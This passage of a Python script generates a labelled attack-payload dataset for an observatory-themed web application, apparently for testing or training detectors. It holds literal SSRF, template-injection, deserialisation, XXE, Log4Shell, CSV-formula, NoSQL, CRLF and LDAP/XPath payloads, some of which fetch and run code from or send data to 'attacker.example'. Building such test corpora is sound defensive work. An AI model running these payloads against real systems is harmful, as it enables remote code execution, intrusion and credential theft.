    ("webhook-dns-rebinding", "http://rebind.attacker.example:11111/api/v1/telescope/0/park"),
    ("hips-url-open-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/user-data"),
    ("tap-url-internal-elasticsearch", "http://10.0.0.12:9200/_cat/indices?v"),
    ("fits-url-internal-alpaca", "http://192.168.10.20:11111/api/v1/dome/0/closeshutter"),
    ("fits-url-zero-ip", "http://0.0.0.0:8000/internal/config"),
    ("webhook-dns-to-loopback", "http://loopback.attacker.example:6379/"),
    ("fits-url-metadata+ipv6-mapped-hex", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/"),
    ("fits-url-metadata+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("fits-url-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("fits-url-metadata+hex-dotted-ip", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("votable-url-jar-scheme", "jar:http://attacker.example/x.jar!/votable.xml"),
    ("fits-url-netdoc-scheme", "netdoc:///etc/passwd"),
    ("mount-url-ipv6-loopback", "http://[::1]:8220/mount/disconnect"),
    ("fits-url-docker-api", "http://localhost:2375/containers/json?all=1"),
    ("fits-url-kubelet", "https://127.0.0.1:10250/pods"),
    ("tap-url-internal-host", "http://internal-tap.obs.lan/tap/sync?REQUEST=doQuery&LANG=ADQL&QUERY=SELECT+*+FROM+tap_schema.users"),
    ("fits-url-loopback+enclosed-digits", "http://①②⑦.⓪.⓪.①:8080/"),
    ("fits-url-ecs-credentials", "http://169.254.170.2/v2/credentials/"),
    ("fits-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("fits-url-aws-ipv6-imds", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("fits-url-loopback+urlencode-host", "http://%31%32%37%2e%30%2e%30%2e%31/admin"),
    ("webhook-gopher-smtp", "gopher://10.0.0.5:25/_HELO%20obs%0D%0AMAIL%20FROM%3A%3Cdirector%40example.org%3E%0D%0ARCPT%20TO%3A%3Cvictim%40example.org%3E%0D%0ADATA%0D%0ASubject%3A%20password%20reset%0D%0A%0D%0Ahttps%3A%2F%2Fattacker.example%2Freset%0D%0A.%0D%0AQUIT%0D%0A"),
    ("cutout-url-tomcat-manager", "http://127.0.0.1:8080/manager/html"),
    ("webhook-json-imds-token", "{\"callback\": \"http://169.254.169.254/latest/api/token\", \"method\": \"PUT\", \"headers\": {\"X-aws-ec2-metadata-token-ttl-seconds\": \"21600\"}}"),
    ("cutout-query-param", "url=http://127.0.0.1:5000/admin&format=fits"),
    ("fits-url-ipv6-any", "http://[::]:5000/"),
    ("fits-url-zero-short", "http://0/"),
    ("frame-path-unc-smb", r"\\198.51.100.20\share\frame_0001.fits"),
    ("directory-url-ldap-scheme", "ldap://127.0.0.1:389/dc=obs,dc=example??sub?(objectClass=*)"),
    ("fits-url-trailing-dot-localhost", "http://localhost.:9090/metrics"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-localhost-status", "http://localhost/server-status"),
    ("plain-metadata", "http://169.254.169.254/"),
]

SSRF_HOSTS = [("loopback", "127.0.0.1"), ("localhost", "localhost"), ("metadata", "169.254.169.254"),
              ("internal", "10.0.3.7"), ("internal", "192.168.1.50"), ("internal", "172.16.0.10")]
SSRF_PATHS = [":11111/api/v1/telescope/0/abortslew", ":8220/mount/stop", "/latest/meta-data/hostname",
              ":9000/minio/admin/v3/info", ":5984/_all_dbs", ":8500/v1/agent/self"]


def tpl_ssrf(rng):
    name, host = rng.choice(SSRF_HOSTS)
    ctx = rng.choice(["fits-url", "hips-url", "webhook", "tap-url"])
    return "%s-%s" % (ctx, name), "http://" + host + rng.choice(SSRF_PATHS)


# ---------------------------------------------------------------------------
# code: SSTI in newsletter/proposal/alert templates, expression fields in the
# pipeline, deserialisation of caches/configs/sessions, XXE in VOTable/VOEvent,
# Log4Shell-style lookups, prototype pollution, CSV formulas in target exports
# ---------------------------------------------------------------------------

CODE = [
    ("newsletter-jinja2-config", "{{ config.items() }}"),
    ("newsletter-jinja2-globals-rce", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("proposal-jinja2-cycler-rce", "{{ cycler.__init__.__globals__.os.popen('curl attacker.example/j|sh').read() }}"),
    ("proposal-jinja2-subclasses-popen", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'], stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("alert-jinja2-file-read", "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("newsletter-jinja2-attr+hex-escape", r"{{ ()|attr('\x5f\x5fclass\x5f\x5f')|attr('\x5f\x5fbase\x5f\x5f')|attr('\x5f\x5fsubclasses\x5f\x5f')() }}"),
    ("newsletter-twig-filter-system", "{{ ['id']|filter('system') }}"),
    ("newsletter-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("proposal-velocity-runtime", "#set($s='')#set($rt=$s.getClass().forName('java.lang.Runtime').getRuntime())$rt.exec('id')"),
    ("obslog-erb-backtick", "<%= `id` %>"),
    ("obslog-erb-file-read", "M42 notes <%= File.read('/etc/passwd') %>"),
    ("newsletter-smarty-system", "{system('cat /etc/passwd')}"),
    ("proposal-mako-import", "<% import os %>${os.popen('id').read()}"),
    ("alert-tornado-import", "{% import os %}{{ os.popen('whoami').read() }}"),
    ("title-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("alert-spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}"),
    ("target-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("comment-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("pipeline-expr-python-import", "__import__('os').system('curl http://attacker.example/e | sh')"),
    ("pipeline-expr-hidden-in-formula", "MAG_AUTO - 0.3*(MAG_APER - MAG_AUTO) if not __import__('subprocess').call(['sh','-c','id']) else 0"),
    ("pipeline-expr-subclasses", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').popen('id').read()"),
    ("pipeline-expr-compile-exec", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("pipeline-expr-getattr-concat", "getattr(__import__('o'+'s'), 'sys'+'tem')('id')"),
    ("node-expr-child-process", "require('child_process').execSync('id').toString()"),
    ("node-expr-mainmodule", "process.mainModule.require('child_process').exec('curl attacker.example|sh')"),
    ("pipeline-cache-pickle+base64", "Y29zCnN5c3RlbQooUydjdXJsIGF0dGFja2VyLmV4YW1wbGUvcHxzaCcKdFIu"),
    ("pipeline-cache-pickle-raw", "cposix\nsystem\n(S'id'\ntR."),
    ("pipeline-config-yaml-apply", "!!python/object/apply:os.system [\"curl http://attacker.example/y | sh\"]"),
    ("pipeline-config-yaml-new", "steps: !!python/object/new:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
    ("pipeline-config-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("upload-php-object-injection", "O:13:\"FitsCacheItem\":2:{s:4:\"path\";s:23:\"/var/www/html/shell.php\";s:4:\"data\";s:28:\"<?php system($_GET['c']); ?>\";}"),
    ("settings-dotnet-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c ping 203.0.113.2\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("json-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\": \"ldap://attacker.example:1389/obj\", \"autoCommit\": true}]"),
    ("json-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://198.51.100.9:1099/x\",\"autoCommit\":true}"),
    ("session-node-serialize", "{\"observer\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("votable-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE VOTABLE [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><VOTABLE version=\"1.4\"><RESOURCE><DESCRIPTION>&x;</DESCRIPTION></RESOURCE></VOTABLE>"),
    ("voevent-xxe-oob-parameter-entity", "<?xml version=\"1.0\"?>\n<!DOCTYPE voe:VOEvent [<!ENTITY % d SYSTEM \"http://attacker.example/x.dtd\"> %d;]>\n<voe:VOEvent ivorn=\"ivo://example/alert#1\" role=\"observation\" version=\"2.0\"/>"),
    ("voevent-xinclude", "<Description xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></Description>"),
    ("votable-entity-expansion", "<?xml version=\"1.0\"?><!DOCTYPE t [<!ENTITY a \"GRBGRBGRBGRB\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;\">]><TABLE>&e;&e;&e;&e;</TABLE>"),
    ("finder-svg-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///home/obs/.ssh/id_rsa\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&h;</text></svg>"),
    ("fits-card-log4shell", "OBSERVER= '${jndi:ldap://attacker.example:1389/a}' / observer"),
    ("target-log4shell+lookup-nesting", "${${lower:j}ndi:${lower:r}mi://198.51.100.4/x}"),
    ("useragent-log4shell-env-exfil", "${jndi:ldap://${env:USER}.${sys:java.version}.attacker.example/z}"),
    ("obslog-log4shell+default-nesting", "${${::-j}${::-n}${::-d}${::-i}:ldaps://attacker.example/o}"),
    ("target-log4shell+urlencode", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fq%7D"),
    ("settings-proto-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("settings-constructor-prototype", "{\"constructor\": {\"prototype\": {\"role\": \"director\"}}}"),
    ("query-proto-pollution", "target=M42&__proto__[allowedTelescopes][]=*"),
    ("profile-proto-ejs-gadget", "{\"observer\": \"ana\", \"__proto__\": {\"outputFunctionName\": \"x;process.mainModule.require('child_process').execSync('id');x\"}}"),
    ("targetlist-csv-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2, \"Open finder chart\")"),
    ("targetlist-csv-webservice", "=WEBSERVICE(\"https://attacker.example/l?\"&A1)"),
    ("targetlist-csv-dde-cmd", "+cmd|' /C powershell -nop -w hidden -c iex(iwr attacker.example/c)'!A1"),
    ("obslog-csv-dde-arith-prefix", "-2+3+cmd|' /C notepad'!'B1'"),
    ("targetlist-csv-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?\", A1:C1), \"//a\")"),
    ("plain-ssti-probe-jinja", "{{7*7}}"),
    ("plain-ssti-probe-dollar", "${7*7}"),
    ("plain-ssti-probe-hash", "#{7*7}"),
    ("newsletter-format-string", "{observer.__init__.__globals__[CONFIG][SECRET_KEY]}"),
    ("votable-xslt-document", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:copy-of select=\"document('file:///etc/passwd')\"/></xsl:template></xsl:stylesheet>"),
    ("obslog-ssi-exec", "<!--#exec cmd=\"id\" -->"),
    ("cache-esi-include", "<esi:include src=\"http://attacker.example/esi.html\"/>"),
    ("fits-card-php-tag", "COMMENT  <?php system($_GET['c']); ?>"),
    ("upload-java-xmldecoder", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/sh</string></void><void index=\"1\"><string>-c</string></void><void index=\"2\"><string>id</string></void></array><void method=\"start\"/></object></java>"),
    ("newsletter-jinja2-lipsum+unicode-escape", r"{{ lipsum.__globals__['\u006fs'].popen('id').read() }}"),
    ("plain-jinja2-rce", "{{ lipsum.__globals__.os.popen('id').read() }}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-proto-pollution", "__proto__[admin]=1"),
    ("pipeline-expr-lambda-exec", "(lambda: exec(\"import subprocess;subprocess.call(['sh','-c','curl attacker.example/l|sh'])\"))()"),
    ("obslog-erb-system", "<%= system('curl attacker.example/r|sh') %>"),
    ("newsletter-de-jinja2-context", "Liebe Mitglieder, {{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("plain-erb-probe", "<%= 7*7 %>"),
]

CODE_GREETINGS = ["Dear members, ", "Clear skies, ", "Hi {name}! ", "Bonjour à tous, ",
                  "Subject: Observing night ", "Abstract: "]
CODE_PAYLOADS = [
    ("jinja2-namespace-rce", "{{ namespace.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("jinja2-url-for-rce", "{{ url_for.__globals__.os.popen('id').read() }}"),
    ("jinja2-get-flashed-rce", "{{ get_flashed_messages.__globals__.__builtins__.__import__('os').popen('uname -a').read() }}"),
    ("jinja2-config-secret", "{{ config['SECRET_KEY'] }}"),
]


def tpl_code(rng):
    name, payload = rng.choice(CODE_PAYLOADS)
    return "newsletter-" + name, rng.choice(CODE_GREETINGS) + payload


# ---------------------------------------------------------------------------
# nosqli: observation/target collections queried with user-supplied JSON or
# bracketed query-string operators; $where JS context
# ---------------------------------------------------------------------------

NOSQLI = [
    ("json-target-ne-null", "{\"target\": {\"$ne\": null}}"),
    ("login-password-gt-empty", "{\"observer\": \"director\", \"password\": {\"$gt\": \"\"}}"),
    ("search-regex-proprietary", "{\"object\": {\"$regex\": \"^M4\"}, \"proprietary\": {\"$exists\": true}}"),
    ("query-operator-ne", "target[$ne]=M42"),
    ("login-query-regex-ne", "login[$regex]=^dir&password[$ne]=x"),
    ("json-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("json-where-blind-timing", "{\"$where\": \"this.pi_email.match(/^a/) && sleep(3000)\"}"),
    ("json-or-public-bypass", "{\"ra\": {\"$gt\": 0}, \"$or\": [{\"public\": true}, {\"owner\": {\"$exists\": true}}]}"),
    ("where-string-breakout", "'; return db.getCollectionNames(); var x='"),
    ("where-js-tautology", "M42' || '1'=='1"),
    ("json-expr-function-sleep", "{\"$expr\": {\"$function\": {\"body\": \"function() { sleep(4000); return true; }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregate-lookup-users", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"pi\", \"foreignField\": \"_id\", \"as\": \"u\"}}, {\"$project\": {\"u.password\": 1}}]"),
    ("json-token-type-bypass", "{\"token\": {\"$type\": 2}}"),
    ("query-nin-array", "observer[$nin][]=nobody"),
    ("mango-selector-gt-null", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"_id\", \"api_key\"]}"),
    ("json-regex-dotall", "{\"target\": {\"$regex\": \".*\", \"$options\": \"si\"}}"),
    ("filter-param-json-ne", "filter={\"owner\":{\"$ne\":\"nobody\"}}"),
    ("query-operator-json+urlencode", "target=%7B%22%24ne%22%3A%20null%7D"),
    ("json-operator-key+unicode-escape", r'{"target": {"\u0024ne": null}}'),
    ("json-where-charat-blind", "{\"mag\": {\"$lt\": 99}, \"$where\": \"return (this.api_key || '').charAt(0) == 'f'\"}"),
    ("plain-ne", "{\"$ne\": 1}"),
    ("plain-query-gt", "username[$gt]=&password[$gt]="),
]

NOSQL_FIELDS = ["target", "observer", "proposal_id", "filter", "instrument", "pi"]
NOSQL_OPS = [("ne", "{\"$ne\": \"\"}"), ("gt", "{\"$gt\": \"\"}"), ("regex", "{\"$regex\": \"^.\"}"),
             ("exists", "{\"$exists\": true}")]


def tpl_nosqli(rng):
    name, op = rng.choice(NOSQL_OPS)
    field = rng.choice(NOSQL_FIELDS)
    return "json-%s-%s" % (field.replace("_", "-"), name), "{\"%s\": %s, \"proprietary\": true}" % (field, op)


# ---------------------------------------------------------------------------
# crlf: log lines, download headers, alert-subscription mail headers
# ---------------------------------------------------------------------------

CRLF = [
    ("obslog-log-forging", "M42 done\n2024-03-15T02:11:09Z INFO auth: user=director login OK from 10.0.0.5"),
    ("obslog-log-forging+urlencode", "M42%0d%0a2024-03-15 02:11:09 [INFO] dome: shutter OPEN by operator"),
    ("download-filename-set-cookie", "M42_0017.fits\r\nSet-Cookie: session=FAKE_SESSION_0000; Path=/"),
    ("download-response-splitting+urlencode", "M42.fits%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("redirect-location+urlencode", "/archive?next=%0d%0aLocation:%20https://attacker.example/"),
    ("alert-subscribe-mail-bcc", "observer@example.org\r\nBcc: list@attacker.example"),
    ("alert-subscribe-mail-cc+urlencode", "observer@example.org%0aCc:all@attacker.example%0aSubject:Dome%20password%20reset"),
    ("circular-subject-bcc", "GRB 240315A optical counterpart\nBcc: harvest@attacker.example\n\nSee attached."),
    ("mail-body-smtp-smuggling", "Thanks for the data\r\n.\r\nMAIL FROM:<director@example.org>\r\nRCPT TO:<pi@example.org>\r\nDATA\r\nSubject: Telescope time revoked\r\n\r\nSee https://attacker.example/appeal\r\n.\r\n"),
    ("obslog-log-forging+unicode-line-separator", "Vega\u2028[ERROR] 2024-03-15 03:00:00 safety: rain sensor override by director"),
    ("header-set-cookie+utf8-truncation", "M42%E5%98%8A%E5%98%8DSet-Cookie:%20role=director"),
    ("syslog-cr-only-forging", "Deneb\r<13>Mar 15 02:11:09 dome-pc obsd: shutter closed, all safe"),
    ("custom-header-xff", "ana\r\nX-Forwarded-For: 127.0.0.1"),
    ("lang-param-set-cookie+urlencode", "lang=en%0d%0aSet-Cookie:%20role=director;%20Path=/"),
    ("csvlog-row-forging", "M42\",\"ok\"\n\"2024-03-15\",\"director\",\"approved proposal 2024A-017\""),
    ("jsonlog-line-forging", "M42\"}\n{\"ts\":\"2024-03-15T03:00:00Z\",\"level\":\"info\",\"user\":\"director\",\"action\":\"approve\",\"proposal\":\"2024A-017\""),
    ("download-body-injection+urlencode", "M42%0d%0a%0d%0a<html><body>Archive moved: <a href=https://attacker.example/>click</a></body></html>"),
    ("fits-header-line-forging", "M42'\nEXPTIME =               9999.0 / forged\nQCFLAG  =                    T"),
    ("tap-request-splitting", "M42 HTTP/1.1\r\nHost: tap.internal\r\n\r\nGET /admin/users HTTP/1.1\r\nHost: tap.internal\r\n"),
    ("header-set-cookie+double-urlencode", "M42%250d%250aSet-Cookie:%2520x%253D1"),
    ("download-accel-redirect+urlencode", "M42.fits%0aX-Accel-Redirect:%20/internal/raw/proprietary/"),
    ("mail-name-reply-to", "Jan Nowak\nReply-To: support@attacker.example"),
    ("chatbot-irc-privmsg", "M42 done\r\nPRIVMSG #obs-control :!dome open"),
    ("plain-crlf-set-cookie+urlencode", "%0d%0aSet-Cookie:%20admin=1"),
    ("plain-crlf-header", "\r\nX-Injected: 1"),
    ("obslog-multi-entry-forging", "Clouds.\n[2024-03-15 04:00:00] director: approved shutdown override\n[2024-03-15 04:00:01] system: override active"),
    ("mail-to-header-multiple", "pi@example.org\nTo: everyone@attacker.example\nX-Priority: 1"),
    ("newsletter-author-bcc", "Sternwarte Zürich – Vorstand\r\nBcc: mitglieder@attacker.example"),
]

CRLF_HEADS = ["M42_Ha_300s_0017.fits", "NGC7000_OIII.fits", "GRB240315A_rp.fits", "night_2024-03-14.tgz"]
CRLF_TAILS = [("set-cookie", "Set-Cookie: role=director; Path=/"),
              ("location", "Location: https://attacker.example/login"),
              ("content-type", "Content-Type: text/html")]


def tpl_crlf(rng):
    name, tail = rng.choice(CRLF_TAILS)
    return "download-filename-" + name, rng.choice(CRLF_HEADS) + "\r\n" + tail


# ---------------------------------------------------------------------------
# ldap-xpath: observer directory lookups (LDAP filters) and catalog lookups in
# XML (VOTable / local catalog) through XPath
# ---------------------------------------------------------------------------

LDAP_XPATH = [
    ("observer-ldap-wildcard-or", "*)(uid=*))(|(uid=*"),
    ("observer-ldap-attr-probe", "director)(userPassword=*"),
    ("observer-ldap-group-membership", "*)(memberOf=cn=telescope-admins,ou=groups,dc=obs,dc=example"),
    ("observer-ldap-or-injection", "ana*)(|(objectClass=*"),
    ("observer-ldap-blind-prefix", "d*)(description=dome*"),
    ("observer-ldap-wildcard-or+urlencode", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("observer-ldap-nullbyte", "director)%00"),
    ("login-ldap-absolute-true", "director)(&)"),
    ("catalog-xpath-tautology", "M42' or '1'='1"),
    ("catalog-xpath-count", "' or count(//user)>0 or 'a'='b"),
    ("catalog-xpath-union-nodes", "'] | //user/password | //*['"),
    ("catalog-xpath-blind-name", "x' or substring(name(/*[1]),1,1)='V' or 'a'='b"),
    ("catalog-xpath-strlen", "' or string-length(//observer[1]/pwd)=12 or '"),
    ("catalog-xpath-numeric", "1 or 1=1"),
    ("catalog-xpath-contains", "') or contains(//credentials, 'key') or ('"),
    ("catalog-xpath2-doc-oob", "' or doc('http://attacker.example/x')/a or '"),
    ("catalog-xpath-dq-union", "M42\"] | /*/*[2] | //*[\""),
    ("catalog-xpath-oob-concat", "M42' and doc-available(concat('http://attacker.example/', //api_key)) and '1'='1"),
    ("plain-ldap-objectclass", "*)(objectClass=*"),
    ("plain-xpath-tautology", "' or 1=1 or ''='"),
]

LDAP_NAMES = ["kowalski", "oneill", "dubois", "yamamoto", "garcia", "nowak"]
LDAP_TAILS = [("ldap-attr-wildcard", ")(mail=*"), ("ldap-or-true", ")(|(uid=*"),
              ("ldap-admin-group", ")(memberOf=cn=dome-operators,ou=groups,dc=obs,dc=example")]


def tpl_ldap_xpath(rng):
    name, tail = rng.choice(LDAP_TAILS)
    return "observer-" + name, rng.choice(LDAP_NAMES) + "*" + tail


# ---------------------------------------------------------------------------

POOLS = {
    "sqli": (SQLI, tpl_sqli),
    "xss": (XSS, tpl_xss),
    "cmdi": (CMDI, tpl_cmdi),
    "traversal": (TRAVERSAL, tpl_traversal),
    "ssrf": (SSRF, tpl_ssrf),
    "code": (CODE, tpl_code),
    "nosqli": (NOSQLI, tpl_nosqli),
    "crlf": (CRLF, tpl_crlf),
    "ldap-xpath": (LDAP_XPATH, tpl_ldap_xpath),
}


def main():
    rng = random.Random(SEED)
    seen = set()
    rows = []
    stats = []
    for cat, target in TARGET_COUNTS:
        literals, template = POOLS[cat]
        items = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit("duplicate literal in %s: %r" % (cat, v))
            seen.add(v)
            items.append((cls, v))
        n_lit = len(items)
        if n_lit > target:
            raise SystemExit("%s: %d literals > target %d" % (cat, n_lit, target))
        tries = 0
        while len(items) < target:
            tries += 1
            if tries > 10000:
                raise SystemExit("template for %s cannot fill the category" % cat)
            cls, v = template(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
        for cls, v in items:
            if not isinstance(v, str) or not v or len(v) > MAX_LEN:
                raise SystemExit("bad value in %s: %r" % (cat, v))
            rows.append((cat, cls, v))
        stats.append((cat, len(items), n_lit))

    total = len(rows)
    total_lit = sum(s[2] for s in stats)
    if total_lit * 100 < 80 * total:
        raise SystemExit("only %d of %d values are literals" % (total_lit, total))

    out = Path(__file__).with_name("attacks.jsonl")
    with out.open("w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls,
                   "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    n_plain = sum(1 for r in rows if r[1].startswith("plain-"))
    n_enc = sum(1 for r in rows if "+" in r[1])
    for cat, n, n_lit in stats:
        print("%-11s %3d  (literals %d)" % (cat, n, n_lit))
    print("total %d values, %d hand-written literals, %d plain-, %d encoded -> %s"
          % (total, total_lit, n_plain, n_enc, out.name))


if __name__ == "__main__":
    main()
